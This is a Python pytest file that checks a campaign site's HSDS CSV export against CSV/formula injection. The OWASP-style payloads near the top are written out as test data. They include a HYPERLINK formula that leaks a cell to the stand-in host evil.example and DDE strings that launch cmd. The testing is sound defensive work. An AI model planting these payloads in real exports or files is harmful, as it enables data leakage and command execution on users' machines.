"""No cell of the HSDS CSV export runs as a spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest

from campaign_site.content.loader import load_content
from campaign_site.content.models import Localized
from campaign_site.exports import hsds
from campaign_site.exports.csv_safety import FORMULA_STARTS, csv_bytes, neutralise_cell
from conftest import REPO

# OWASP's leading characters (CSV Injection page; ASVS 5.0 1.2.10 adds NUL), written out here
# rather than taken from the code under test.
OWASP_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
# Payloads from OWASP's CSV Injection page and common proofs of concept, one per leading character.
PAYLOADS = {
    "=": '=HYPERLINK("https://evil.example/?leak="&A1,"Bấm vào đây")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
    "\0": "\0=1+1",
}
PLAIN = ["", "Tổng đài 111", "1900 969 680", "-5", "+84", "10.5", "-0.25", "1e3", "'quoted", "a=b", "x;=1+1"]


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def executes(cell: str) -> bool:
    """Would a spreadsheet evaluate this cell (OWASP's rule), a plain number aside?"""
    return cell.startswith(OWASP_STARTS) and not NUMBER.fullmatch(cell)


def test_every_owasp_leading_character_is_covered() -> None:
    assert set(PAYLOADS) == set(FORMULA_STARTS) == set(OWASP_STARTS)


@pytest.mark.parametrize("start", sorted(PAYLOADS), ids=repr)
def test_formula_cells_get_a_leading_quote(start: str) -> None:
    payload = PAYLOADS[start]
    assert neutralise_cell(payload) == "'" + payload
    assert neutralise_cell(start + "text") == "'" + start + "text"
    [[cell]] = cells(csv_bytes([[payload]]))
    assert cell == "'" + payload


@pytest.mark.parametrize("value", PLAIN)
def test_other_cells_are_unchanged(value: str) -> None:
    assert neutralise_cell(value) == value
    [[cell]] = cells(csv_bytes([[value]]))
    assert cell == value


def test_every_cell_is_quoted_so_no_separator_starts_a_cell() -> None:
    data = csv_bytes([["a;=1+1", 'say "hi"', "x,=2"]])
    assert data == b'"a;=1+1","say ""hi""","x,=2"\r\n'
    # read as a semicolon-separated file, as some spreadsheets do, still one cell each
    [[first, *_]] = list(csv.reader(io.StringIO(data.decode(), newline=""), delimiter=";"))
    assert not first.startswith("=")


@pytest.fixture(scope="module")
def hostile_export(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The repository's directory with every text of every service set to a formula payload."""
    content = load_content(REPO / "content", ["vi", "en", "rad", "jra", "mng"], "vi")
    assert content.problems == []
    payloads = list(PAYLOADS.values())
    services = []
    for number, service in enumerate(content.services):
        payload = payloads[number % len(payloads)]
        phones = [phone.model_copy(update={"label": Localized({"vi": payload}),
                                           "hours": Localized({"vi": payload})})
                  for phone in service.phones]
        services.append(service.model_copy(update={
            "status": "verified", "verified_on": dt.date(2024, 10, 1),
            "name": Localized({"vi": payload}), "description": Localized({"vi": payload}),
            "organisation": Localized({"vi": payload}), "hours": Localized({"vi": payload}),
            "cost": Localized({"vi": payload}),
            "address": Localized({"vi": payload}) if service.address else None,
            "phones": phones,
        }))
    hostile = content.with_entries("service", services)
    target = tmp_path_factory.mktemp("hostile")
    hsds.write_hsds(hostile, target, "https://binhdanggioi.example/", dt.datetime(2024, 11, 25, tzinfo=dt.timezone.utc))
    return target / "data" / "hsds" / "csv"


def test_no_exported_cell_runs_as_a_formula(hostile_export: Path) -> None:
    files = sorted(hostile_export.glob("*.csv"))
    assert files
    neutralised = 0
    for path in files:
        for row in cells(path.read_bytes()):
            for cell in row:
                assert not executes(cell), f"{path.name}: {cell!r}"
                neutralised += cell.startswith("'") and cell[1:2] in OWASP_STARTS
    assert neutralised >= len(PAYLOADS), "the payloads reached the CSV files, neutralised"
